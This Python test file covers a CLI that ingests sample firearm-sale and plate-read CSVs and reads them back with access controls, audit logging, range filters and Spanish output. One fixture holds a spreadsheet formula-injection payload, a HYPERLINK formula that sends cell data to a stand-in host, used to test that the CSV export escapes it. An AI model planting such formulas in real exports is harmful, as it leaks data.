"""`ironriver ledger DATASET` end to end: a mapping ingested by the CLI into a real SQLite
store, its ledger rows read back as a table (in English and Spanish), CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from ironriver.cli import cli
from samples import sample_db

MAPPING = """\
us_atf_sales:
  agency: ATF
  country: US
  marking: AMBER
  releasable_to: [US, MX]
  queries:
  - csv_url: sales.csv
    ledger:
      name: dealer_sales
      columns:
        txn: {column: txn, type: string, required: true}
        sold: {column: fecha, type: date, format: "%d/%m/%Y"}
        serial: {column: serial, type: string}
        price: {column: price, type: float}
        long_gun: {column: long_gun, type: boolean}
us_atf_private:
  agency: ATF
  country: US
  marking: AMBER
  releasable_to: [US]
  queries:
  - csv_url: sales.csv
    ledger:
      name: dealer_sales
      columns:
        txn: {column: txn, type: string}
"""
SALES = (
    "txn,fecha,serial,price,long_gun\n"
    "T1,01/02/2024,ABC-123,499.5,no\n"
    "T2,03/02/2024,XYZ9,1250,yes\n"
    "T3,03/02/2024,abc 123,80,no\n"
)
HEADER = ["txn", "sold", "serial", "price", "long_gun"]  # the ledger's columns, in order


@pytest.fixture
def db(tmp_path: Path) -> str:
    (tmp_path / "sales.csv").write_text(SALES, encoding="utf-8")
    (tmp_path / "sales.yaml").write_text(MAPPING, encoding="utf-8")
    path = str(tmp_path / "l.db")
    code, out = run("ingest", str(tmp_path / "sales.yaml"), "--db", path, "--as", "loader")
    assert code == 0, out
    return path


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    return result.exit_code, result.output


def read(db: str, *args: str, who: str = "us-atf-analyst") -> tuple[int, str]:
    return run("ledger", *args, "--db", db, "--as", who)


def test_a_serial_finds_its_sales_as_the_identifier_search_would(db: str) -> None:
    code, out = read(db, "us_atf_sales", "--where", "serial=abc123", "--reason", "trace 7")
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0].split() == [*HEADER, "marking", "source"]
    assert lines[2].split() == [
        "T1",
        "2024-02-01",
        "ABC-123",
        "499.5",
        "no",
        "AMBER",
        "sales.csv:1",
    ]
    assert lines[3].split()[:3] == ["T3", "2024-02-03", "abc"]
    assert len(lines) == 4


def test_typed_filters_columns_and_limit(db: str) -> None:
    code, out = read(
        db, "us_atf_sales", "--where", "sold=2024-02-03", "--where", "long_gun=yes",
        "--columns", "serial,txn",
    )  # fmt: skip
    assert code == 0, out
    assert [line.split() for line in out.splitlines()] == [
        ["serial", "txn", "marking", "source"],
        ["-" * 6, "-" * 3, "-" * 7, "-" * 11],
        ["XYZ9", "T2", "AMBER", "sales.csv:2"],
    ]
    code, out = read(db, "us_atf_sales", "--limit", "1")
    assert code == 0 and "1 of 3 matching rows shown; more with --limit 3." in out
    code, out = read(db, "us_atf_sales", "--where", "price=12")
    assert code == 0 and "No row of us_atf_sales/dealer_sales that you may see matches." in out


def test_json_is_the_rows_with_their_labels(db: str) -> None:
    code, out = read(db, "us_atf_sales", "--where", "serial=XYZ-9", "--json")
    assert code == 0, out
    assert json.loads(out) == {
        "dataset": "us_atf_sales",
        "ledger": "dealer_sales",
        "columns": HEADER,
        "matched_rows": 1,
        "rows": [
            {
                "values": {
                    "txn": "T2",
                    "sold": "2024-02-03",
                    "serial": "XYZ9",
                    "price": 1250.0,
                    "long_gun": True,
                },
                "marking": "AMBER",
                "releasable_to": ["MX", "US"],
                "owner_agency": "ATF",
                "owner_country": "US",
                "source_ref": "sales.csv:2",
            }
        ],
    }


def test_csv_goes_to_standard_output(db: str) -> None:
    code, out = read(db, "us_atf_sales", "--where", "long_gun=no", "--format", "csv")
    assert code == 0, out
    assert list(csv.reader(io.StringIO(out))) == [
        [*HEADER, "_marking", "_releasable_to", "_owner_agency", "_owner_country", "_source_ref"],
        [
            "T1",
            "2024-02-01",
            "ABC-123",
            "499.5",
            "false",
            "AMBER",
            "MX,US",
            "ATF",
            "US",
            "sales.csv:1",
        ],
        [
            "T3",
            "2024-02-03",
            "abc 123",
            "80.0",
            "false",
            "AMBER",
            "MX,US",
            "ATF",
            "US",
            "sales.csv:3",
        ],
    ]
    code, out = read(db, "us_atf_sales", "--format", "csv", "--json")
    assert code == 2 and "--json and --format csv both choose the output" in out


def test_csv_text_a_spreadsheet_would_run_gets_a_quote_before_it(tmp_path: Path) -> None:
    """A text cell starting with =, +, - or @ would run as a formula in a spreadsheet (review
    R5 F4: an agency's `=HYPERLINK(...)` would open with the file): written with a single
    quote before it. A number stays a number: -12.5 in a number column, and "-5" or "+52"
    in a text column (a spreadsheet reads those as numbers, not formulas)."""
    sales = (
        "txn,fecha,serial,price,long_gun\n"
        'T1,01/02/2024,"=HYPERLINK(""http://x.example/?""&A1,""open"")",-12.5,no\n'
        "T2,01/02/2024,+52 55 1234 5678,1,no\n"
        "T3,01/02/2024,@SUM(A1:A9),2,no\n"
        "T4,01/02/2024,-5,3,no\n"
        "T5,01/02/2024,+52,4,no\n"
        "T6,01/02/2024,-x-,5,no\n"
        "T7,01/02/2024,A-1,6,no\n"
    )
    (tmp_path / "sales.csv").write_text(sales, encoding="utf-8")
    (tmp_path / "sales.yaml").write_text(MAPPING, encoding="utf-8")
    db = str(tmp_path / "l.db")
    code, out = run("ingest", str(tmp_path / "sales.yaml"), "--db", db, "--as", "loader")
    assert code == 0, out
    code, out = read(db, "us_atf_sales", "--columns", "txn,serial,price", "--format", "csv")
    assert code == 0, out
    assert [row[:3] for row in csv.reader(io.StringIO(out))] == [
        ["txn", "serial", "price"],
        ["T1", '\'=HYPERLINK("http://x.example/?"&A1,"open")', "-12.5"],
        ["T2", "'+52 55 1234 5678", "1.0"],
        ["T3", "'@SUM(A1:A9)", "2.0"],
        ["T4", "-5", "3.0"],
        ["T5", "+52", "4.0"],
        ["T6", "'-x-", "5.0"],
        ["T7", "A-1", "6.0"],
    ]


def test_a_hidden_dataset_is_answered_as_a_missing_one(db: str) -> None:
    """FGR sees the sales released to MX, not the US-only dataset: reading that one gives
    the very answer a dataset that does not exist gives (exit 4), in Spanish for FGR."""
    code, out = read(db, "us_atf_sales", "--where", "serial=xyz9", who="mx-fgr-analista")
    assert code == 0 and "XYZ9" in out
    hidden = read(db, "us_atf_private", "--where", "txn=T1", who="mx-fgr-analista")
    missing = read(db, "us_atf_privat", "--where", "txn=T1", who="mx-fgr-analista")
    assert hidden[0] == missing[0] == 4
    assert hidden[1].replace("us_atf_private", "D") == missing[1].replace("us_atf_privat", "D")
    assert "No hay ningún libro de registro del conjunto de datos" in hidden[1]
    code, out = read(db, "us_atf_private", "--where", "txn=T1")
    assert code == 0 and "T1" in out


def test_a_ledgers_name_given_as_its_dataset_names_the_datasets_you_see(db: str) -> None:
    """`ironriver ledger dealer_sales` (the ledger's name, not its dataset's) suggests the
    visible datasets holding a ledger of that name, and no other."""
    code, out = read(db, "dealer_sales")
    assert code == 4 and "No ledger of a dataset 'dealer_sales' is visible to you." in out
    assert "Did you mean `us_atf_private`, `us_atf_sales`? List the ledgers" in out
    code, out = read(db, "dealer_sales", who="mx-fgr-analista")
    assert code == 4 and "¿Quiso decir `us_atf_sales`? Liste los libros" in out
    code, out = read(db, "dealer_sale")
    assert code == 4 and "Did you mean" not in out


def test_mistakes_are_clear_errors_in_the_readers_language(db: str) -> None:
    code, out = read(db, "us_atf_sales", "--where", "seriel=abc")
    assert code == 2
    assert "Ledger 'us_atf_sales/dealer_sales' has no column 'seriel'." in out
    assert "Use one of its columns: txn, sold, serial, price, long_gun." in out
    code, out = read(db, "us_atf_sales", "--where", "sold=1 Feb 2024")
    assert code == 2 and "Column 'sold' holds dates: '1 Feb 2024' is not one." in out
    assert "Write a date as 2024-11-30 (year-month-day), or with the year last: 30/11/2024." in out
    code, out = read(db, "us_atf_sales", "--where", "sold=01/02/2024")
    assert code == 2 and (
        "'01/02/2024' for column 'sold' reads as two dates: 2024-02-01 (day first) or "
        "2024-01-02 (month first)." in out
    )
    assert "Type the one you mean as year-month-day: sold=2024-02-01 or sold=2024-01-02." in out
    code, out = read(db, "us_atf_sales", "--where", "serial")
    assert code == 2 and "--where 'serial' is not COLUMN=VALUE." in out
    code, out = run(
        "--lang", "es", "ledger", "us_atf_sales", "--where", "sold=ayer", "--db", db,
        "--as", "us-atf-analyst",
    )  # fmt: skip
    assert (
        code == 2 and "La columna 'sold' contiene fechas: 'ayer' no es un valor de ese tipo." in out
    )
    assert (
        "Escriba la fecha como 2024-11-30 (año-mes-día), o con el año al final: 30/11/2024." in out
    )
    code, out = run(
        "--lang", "es", "ledger", "us_atf_sales", "--where", "sold=01/02/2024", "--db", db,
        "--as", "us-atf-analyst",
    )  # fmt: skip
    assert code == 2 and "se lee como dos fechas: 2024-02-01 (el día primero)" in out


def test_spanish_tables_translate_our_headers_not_the_columns(db: str) -> None:
    code, out = read(db, "us_atf_sales", "--limit", "2", who="mx-fgr-analista")
    assert code == 0, out
    lines = out.splitlines()
    assert lines[0].split() == [*HEADER, "marca", "TLP", "fuente"]
    assert lines[2].split()[4] == "no" and lines[3].split()[4] == "sí"
    assert lines[-1] == "Filas coincidentes mostradas: 2 de 3; vea más con --limit 3."


def test_ledgers_names_its_count_as_json_does(db: str) -> None:
    """`ledgers` and `datasets` show `visible_ledger_rows` under one header (it said
    "visible rows" in one and "ledger rows" in the other)."""
    for lang, count in (("en", "visible ledger rows"), ("es", "filas de libro visibles")):
        code, out = run("--lang", lang, "ledgers", "--db", db, "--as", "us-atf-analyst")
        assert code == 0, out
        assert out.splitlines()[0].rstrip().endswith("  " + count), out
        code, out = run("--lang", lang, "datasets", "--db", db, "--as", "us-atf-analyst")
        assert code == 0 and out.splitlines()[0].rstrip().endswith("  " + count), out


def test_each_read_is_in_the_audit_log_with_its_filter_and_count(db: str) -> None:
    read(db, "us_atf_sales", "--where", "serial=abc123", "--limit", "1", "--reason", "trace 7")
    code, out = run("audit", "log", "--action", "ledger", "--db", db, "--as", "auditor", "--json")
    assert code == 0, out
    [event] = json.loads(out)
    assert (event["actor"], event["target"], event["reason"]) == (
        "us-atf-analyst",
        "us_atf_sales",
        "trace 7",
    )
    assert event["detail"] == {
        "ledger": "dealer_sales",
        "where": ["serial=abc123"],
        "columns": None,
        "limit": 1,
        "matched": 2,
        "rows": 1,
    }


def test_a_decimal_number_shows_its_thousands_in_the_table_not_the_json(db: str) -> None:
    """R10: money read "250000.0" in the table while counts read "151,686"."""
    code, out = read(db, "us_atf_sales", "--where", "txn=T2", "--columns", "txn,price")
    assert code == 0 and out.splitlines()[2].split()[:2] == ["T2", "1,250.0"], out
    code, out = read(db, "us_atf_sales", "--where", "txn=T2", "--json")
    assert json.loads(out)["rows"][0]["values"]["price"] == 1250.0


TYPED_MAPPING = """\
us_cbp_reads:
  agency: CBP
  country: US
  marking: AMBER
  releasable_to: [US]
  queries:
  - csv_url: reads.csv
    ledger:
      name: plate_reads
      columns:
        plate: {column: plate, type: string, required: true}
        lane: {column: lane, type: integer}
        fee: {column: fee, type: float}
        day: {column: day, type: date}
        read_at: {column: read_at, type: timestamp}
        flagged: {column: flagged, type: boolean}
"""
READS = (
    "plate,lane,fee,day,read_at,flagged\n"
    "P1,1,0.5,2020-11-30,2020-11-30T23:59:30Z,no\n"
    "P2,4,1000,2020-12-01,2020-12-01T00:00:00Z,yes\n"
    "P3,7,1500.25,2020-12-31,2020-12-31T23:59:59Z,no\n"
    "P4,9,20,2021-01-01,2021-01-01T06:00:00-06:00,no\n"
    "A..B,12,3,2019-06-15,2019-06-15T12:00:00Z,no\n"
)


@pytest.fixture
def reads_db(tmp_path: Path) -> str:
    (tmp_path / "reads.csv").write_text(READS, encoding="utf-8")
    (tmp_path / "reads.yaml").write_text(TYPED_MAPPING, encoding="utf-8")
    path = str(tmp_path / "r.db")
    code, out = run("ingest", str(tmp_path / "reads.yaml"), "--db", path, "--as", "loader")
    assert code == 0, out
    return path


def _plates(db: str, *wheres: str, lang: str = "en") -> tuple[int, Any]:
    args = [a for w in wheres for a in ("--where", w)]
    code, out = run(
        "--lang", lang, "ledger", "us_cbp_reads", *args, "--json", "--db", db, "--as",
        "us-cbp-officer",
    )  # fmt: skip
    if code != 0:
        return code, out
    return code, [row["values"]["plate"] for row in json.loads(out)["rows"]]


def test_ranges_months_and_years_through_the_cli(reads_db: str) -> None:
    """R14: a month of sales, `price>1000` and `sale_date=2020-12-01..2020-12-31` were all
    refused. Each form on each type it is for: LOW..HIGH, LOW.., ..HIGH on a whole number,
    a decimal number, a date and a timestamp column (ends as a single value is written,
    year last too; a day of a timestamp column is the whole day), a month and a year on the
    date and timestamp columns."""
    for where, want in [
        ("lane=4..9", ["P2", "P3", "P4"]),
        ("lane=7..", ["P3", "P4", "A..B"]),
        ("lane=..4", ["P1", "P2"]),
        ("fee=1000..", ["P2", "P3"]),
        ("fee=..20", ["P1", "P4", "A..B"]),
        ("fee=0.5..1000", ["P1", "P2", "P4", "A..B"]),
        ("day=2020-12-01..2020-12-31", ["P2", "P3"]),
        ("day=01/12/2020..31/12/2020", []),  # (refused below: 01/12/2020 reads two ways)
        ("day=2020-12-01..31/12/2020", ["P2", "P3"]),
        ("day=2021..", ["P4"]),
        ("day=..2019-12", ["A..B"]),
        ("day=2020-12", ["P2", "P3"]),
        ("day=12/2020", ["P2", "P3"]),
        ("day=2020", ["P1", "P2", "P3"]),
        ("read_at=2020-12-01..2020-12-31", ["P2", "P3"]),
        ("read_at=2020-11-30T23:59..2020-12-01T00:00", ["P1", "P2"]),
        ("read_at=2021-01-01T12..", ["P4"]),
        ("read_at=..30/11/2020", ["P1", "A..B"]),
        ("read_at=2020-12", ["P2", "P3"]),
        ("read_at=12/2020", ["P2", "P3"]),
        ("read_at=2019", ["A..B"]),
    ]:
        code, got = _plates(reads_db, where)
        if where.startswith("day=01/12"):
            assert code == 2 and "reads as two dates" in got, got
            continue
        assert code == 0 and got == want, (where, got)
    code, got = _plates(reads_db, "day=2020-12", "fee=1000..")  # a month of one's sales
    assert code == 0 and got == ["P2", "P3"]
    # COLUMN=VALUE is what it was; a text column's `..` is punctuation, as ever
    assert _plates(reads_db, "lane=4") == (0, ["P2"])
    assert _plates(reads_db, "day=2020-12-01") == (0, ["P2"])
    assert _plates(reads_db, "read_at=2020-12-01") == (0, ["P2"])
    assert _plates(reads_db, "plate=A..B") == (0, ["A..B"])
    assert _plates(reads_db, "plate=a.b") == (0, ["A..B"])


def test_range_mistakes_are_clear_errors_in_both_languages(reads_db: str) -> None:
    """A range that holds nothing, with a malformed end or no end, on a yes/no column, and
    `price>1000` (a comparison, not COLUMN=VALUE): exit 2, saying what to write, in English
    and Spanish."""
    for where, en, es in [
        (
            "lane=9..4",
            "The range '9..4' for column 'lane' holds nothing: 9 comes after 4.\n"
            "  What to do: Write the lower end first: lane=4..9.",
            "El intervalo '9..4' de la columna 'lane' no contiene nada: 9 va después de 4.",
        ),
        (
            "day=2021..2020-12",
            "The range '2021..2020-12' for column 'day' holds nothing",
            "Escriba primero el extremo menor: day=2020-12..2021.",
        ),
        (
            "read_at=2020-12-01T10..2020-12-01T09",
            "holds nothing: 2020-12-01T10 comes after 2020-12-01T09.",
            "no contiene nada",
        ),
        (
            "fee=1..x",
            "Column 'fee' holds numbers: 'x' is not one.",
            "La columna 'fee' contiene números: 'x' no es un valor de ese tipo.",
        ),
        (
            "day=2020-12..2021-13",
            "Column 'day' holds dates: '2021-13' is not one.\n  What to do: Write a date as "
            "2024-11-30 (year-month-day), or with the year last: 30/11/2024. A month as "
            "2024-11 or 11/2024, a year as 2024; a range as LOW..HIGH, both ends included.",
            "Un mes como 2024-11 o 11/2024, un año como 2024; un intervalo como DESDE..HASTA",
        ),
        (
            "lane=..",
            "'..' for column 'lane' is not a range: write LOW..HIGH (both ends included), LOW.. "
            "or ..HIGH.\n  What to do: Write it as lane=10..20.",
            "'..' de la columna 'lane' no es un intervalo: escriba DESDE..HASTA",
        ),
        (
            "flagged=no..yes",
            "Column 'flagged' holds yes/no values, which have no range: 'no..yes' is not one "
            "value.",
            "Escriba un solo valor, true o false.",
        ),
        (
            "fee>1000",
            "--where 'fee>1000' compares with >: a filter is COLUMN=VALUE, or a range "
            "COLUMN=LOW..HIGH that includes both ends (LOW.. or ..HIGH for one end).\n"
            "  What to do: Write it as --where 'fee=1000..'.",
            "--where 'fee>1000' compara con >: un filtro es COLUMNA=VALOR",
        ),
        ("day <= 2020-12-31", "Write it as --where 'day=..2020-12-31'.", "Escríbalo como"),
    ]:
        code, out = _plates(reads_db, where)
        assert code == 2 and en in out, (where, out)
        code, out = _plates(reads_db, where, lang="es")
        assert code == 2 and es in out, (where, out)


@pytest.mark.parametrize("lang", ["en", "es"])
def test_a_comparison_is_answered_with_a_filter_that_types_back(reads_db: str, lang: str) -> None:
    """The hint for `fee>1000` ended "--where fee=1000..": with the sentence's full stop,
    "fee=1000...", which typed as read is refused as no range (R21). The filter is quoted,
    so its end is plain, and typed back as quoted it is accepted."""
    code, out = _plates(reads_db, "fee>1000", lang=lang)
    assert code == 2
    hint = out.split({"en": "Write it as ", "es": "Escríbalo como "}[lang])[1].splitlines()[0]
    quoted = re.fullmatch(r"--where '([^']+)'\.", hint)
    assert quoted is not None, hint
    assert _plates(reads_db, quoted[1]) == (0, ["P2", "P3"])


def test_datasets_reads_the_ledgers_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`ironriver datasets` shows its table and its damage notes (and exit status) from one
    reading of the ledgers: read twice, a part damaged or restored between the two made a
    row unknown with no note, or a note beside a count (review R26 F5)."""
    from ironriver.policy.view import View

    calls = []
    real = View.ledger_listing

    def counted(self: View) -> object:
        calls.append(1)
        return real(self)

    monkeypatch.setattr(View, "ledger_listing", counted)
    db = sample_db(tmp_path, "s.db")
    result = CliRunner().invoke(cli, ["datasets", "--db", db, "--as", "us-atf-analyst"])
    assert result.exit_code == 0, result.output
    assert len(calls) == 1
